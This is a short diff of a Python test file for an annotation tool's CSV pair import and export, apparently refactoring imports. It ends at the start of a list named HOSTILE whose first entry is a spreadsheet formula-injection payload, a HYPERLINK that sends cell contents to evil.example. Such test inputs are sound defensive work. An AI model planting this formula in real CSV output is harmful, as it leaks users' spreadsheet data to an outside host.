@@ -15,13 +15,13 @@ import sqlalchemy as sa
 from automonitor import annotation as ann
 from automonitor import views
 from automonitor.annotation.accounts import SYSTEM
-from automonitor.data.pair_files import export_pairs, import_pairs
+from automonitor.data.pairfiles.export import export_pairs
 from automonitor.data.records import csv_cell_in, csv_cell_out
 from store import get_engine, init_db, session_scope
 from store.models import Sample
 from store.queries.samples import insert_samples
 
-from helpers import candidate_row, fast_user
+from helpers import candidate_row, fast_user, import_pairs
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
